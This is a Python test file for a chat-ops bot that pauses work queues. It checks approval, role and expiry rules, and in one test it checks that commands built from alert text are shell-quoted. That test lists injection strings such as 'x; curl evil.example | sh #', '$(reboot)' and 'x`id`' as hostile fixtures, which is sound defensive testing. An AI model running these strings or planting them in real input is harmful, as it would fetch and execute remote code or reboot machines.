"""What consent covers, and what it no longer covers."""

import dataclasses
import shlex
from typing import Any

import pytest

from bot.checks.workers import Workers
from bot.domain.action import Execution, ExecutionState, Proposal, Risk
from bot.domain.alert import Alert, AlertStatus
from bot.domain.approval import Alternative, Answer, ApprovalRequest, Decided, Policy, Refused, RequestState
from bot.domain.cluster import ClusterSnapshot, TaskInHand
from bot.usecases import alerts, approvals, buttons, requests, runs
from bot.usecases.executions import execute
from bot.usecases.requests import Submitted
from tests.usecases.test_consent import approved, asked
from tests.usecases.test_pauses import pause
from tests.usecases.world import World


def test_what_is_asked_again_under_a_stricter_policy_needs_what_that_policy_asks(world: World) -> None:
    """One approval was enough; now two are: one click on the new request must not run it."""
    world.roles["oncall"] = frozenset({"U0ANA", "U0BEN", "U0CHI"})
    execution_id = approved(world, asked(world))
    stricter = dataclasses.replace(
        world.ports, policy=Policy(consent={Risk.HIGH: (Alternative(approve=2, by="oncall"),)})
    )
    execute(stricter, execution_id)
    with world.store.read() as tx:
        (again,) = tx.requests.find(state=RequestState.PENDING.value)
    outcome = approvals.answer(stricter, again.id, "U0BEN", Answer.APPROVE)
    assert isinstance(outcome, Decided)
    if outcome.request.execution_id:
        execute(stricter, outcome.request.execution_id)
    assert world.cluster.calls == [], "ran with one approval under a policy that asks for two"


def test_what_is_asked_again_asks_those_who_may_approve_now(world: World) -> None:
    """Ben lost the role; Chi has it: Chi is told, and Ben is not."""
    execution_id = approved(world, asked(world))
    world.roles["oncall"] = frozenset({"U0ANA", "U0CHI"})
    execute(world.ports, execution_id)
    with world.store.read() as tx:
        (again,) = tx.requests.find(state=RequestState.PENDING.value)
    assert again.asked == ("U0CHI",)


def test_a_draft_of_low_risk_does_not_slip_through_a_stricter_policy(world: World) -> None:
    """Drafted when an hour was low; the policy now allows one person five minutes."""
    proposal = Proposal(action="pause_queue", cluster="prod", params={"queue": "analytics", "seconds": 1800})
    drafted = requests.draft(world.ports, proposal, "U0ANA", "because", "C0ONCALL")
    assert isinstance(drafted, ApprovalRequest)
    assert drafted.risk is Risk.LOW
    stricter = dataclasses.replace(
        world.ports, policy=Policy(consent={Risk.HIGH: (Alternative(approve=1, by="oncall"),)}, low_pause_minutes=5)
    )
    submitted = requests.submit(stricter, drafted.id, "U0ANA")
    if isinstance(submitted, Submitted) and submitted.execution:
        execute(stricter, submitted.execution.id)
    assert world.cluster.calls == []


def test_a_person_who_lost_the_role_before_it_ran_is_not_obeyed_alone(world: World) -> None:
    """Roles are asked again at execution, for low risk too."""
    proposal = Proposal(action="pause_queue", cluster="prod", params={"queue": "analytics", "seconds": 1800})
    drafted = requests.draft(world.ports, proposal, "U0ANA", "because", "C0ONCALL")
    assert isinstance(drafted, ApprovalRequest)
    submitted = requests.submit(world.ports, drafted.id, "U0ANA")
    assert isinstance(submitted, Submitted)
    assert submitted.execution
    world.roles["oncall"] = frozenset({"U0BEN"})
    execute(world.ports, submitted.execution.id)
    assert world.cluster.calls == []


def test_consent_of_last_night_does_not_run_in_the_morning(world: World) -> None:
    """Everything was down from the approval on; ten hours later nobody wants that pause any more."""
    execution_id = approved(world, asked(world))
    world.clock.pass_time(hours=10)
    done = execute(world.ports, execution_id)
    assert isinstance(done, Execution)
    assert done.state is ExecutionState.FAILED
    assert world.cluster.calls == []


def test_an_offer_on_an_old_card_of_a_resolved_incident_does_nothing(world: World) -> None:
    """Slack's card lags behind; a click on it must not pause for an incident that is over."""
    incident = world.fire()
    world.fire("1795354700.000000", AlertStatus.RESOLVED)
    with world.store.read() as tx:
        (run,) = tx.runs.find(incident_id=incident.id)
        assert tx.incidents.get(incident.id).over
    assert isinstance(buttons.offer(world.ports, run.id, "pause", "U0ANA"), Refused)


def test_a_request_for_an_incident_that_is_over_is_not_approved_by_a_late_click(world: World) -> None:
    """The alert resolved by itself while people slept; the direct message still has its button."""
    incident = world.fire()
    proposal = Proposal(action="pause_queue", cluster="prod", params={"queue": "notifications", "seconds": 1800})
    drafted = requests.draft(world.ports, proposal, "U0ANA", "r", "C0ONCALL", incident_id=incident.id)
    assert isinstance(drafted, ApprovalRequest)
    requests.submit(world.ports, drafted.id, "U0ANA")
    world.fire("1795354700.000000", AlertStatus.RESOLVED)
    assert isinstance(approvals.answer(world.ports, drafted.id, "U0BEN", Answer.APPROVE), Refused)


def hostile(queue: str, **more: Any) -> Alert:
    """Return an alert whose queue says something nasty."""
    return Alert(
        status=AlertStatus.FIRING, name="QueueDepth", title="t", channel="C0ONCALL", ts="1795354585.5",
        sender="B0ALERT", key="k9", labels={"queue": queue}, limit=1000, **more,
    )  # fmt: skip


@pytest.mark.parametrize("queue", ["x; curl evil.example | sh #", "$(reboot)", "a b", "x`id`"])
def test_a_command_to_copy_never_runs_what_an_alert_says(world: World, queue: str) -> None:
    """Alert text is untrusted: somebody at 3 a.m. pastes that line into a root shell."""
    received = alerts.receive(world.ports, hostile(queue))
    assert received.incident
    runs.refresh(world.ports, received.incident.id)
    with world.store.read() as tx:
        (run,) = tx.runs.find(incident_id=received.incident.id)
    for result in run.results:
        if result.command:
            assert queue not in result.command or shlex.quote(queue) in result.command, result.command


def test_a_check_that_breaks_is_its_own_result(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """One mistake in one check must not leave the card without any number."""
    monkeypatch.setattr(Workers, "run", lambda *_: 1 / 0)
    incident = world.fire()
    with world.store.read() as tx:
        (run,) = tx.runs.find(incident_id=incident.id)
    assert run.depth == 1284


@pytest.mark.parametrize("text", ["a\x00b", "x" * 4000])
def test_hostile_text_is_taken_in(world: World, text: str) -> None:
    """NUL, endless names: the alert is answered all the same."""
    received = alerts.receive(world.ports, hostile(text, link=text))
    assert received.incident
    runs.refresh(world.ports, received.incident.id)


def test_a_request_that_waits_for_approval_does_not_block_what_one_person_may_do_now(world: World) -> None:
    """Ana asked for two hours and nobody is awake; Ben, on call, needs ten minutes now, which is low risk."""
    asked(world, queue="analytics", minutes=120)
    proposal = Proposal(action="pause_queue", cluster="prod", params={"queue": "analytics", "seconds": 600})
    drafted = requests.draft(world.ports, proposal, "U0BEN", "now", "C0ONCALL")
    assert isinstance(drafted, ApprovalRequest)
    assert drafted.risk is Risk.LOW
    assert isinstance(requests.submit(world.ports, drafted.id, "U0BEN"), Submitted)


def test_an_execution_stays_small_on_a_cluster_with_many_scheduled_tasks(world: World) -> None:
    """60,000 ETA tasks in hand: the stored observation must not carry them through every progress line and card."""
    big = tuple(TaskInHand(id=f"task-{n:032}", name="shop.tasks.send_reminder", queue="booking") for n in range(20000))
    original = world.cluster.snapshot

    def crowded(deadline: float = 2.0) -> ClusterSnapshot:
        snapshot = original(deadline)
        workers = tuple(w.model_copy(update={"scheduled": big}) for w in snapshot.workers)
        return snapshot.model_copy(update={"workers": workers})

    world.cluster.snapshot = crowded  # type: ignore[method-assign]  # a crowded cluster, for this test
    done = pause(world)
    assert len(done.model_dump_json()) < 200_000, f"{len(done.model_dump_json()):,} bytes, written again at each step"
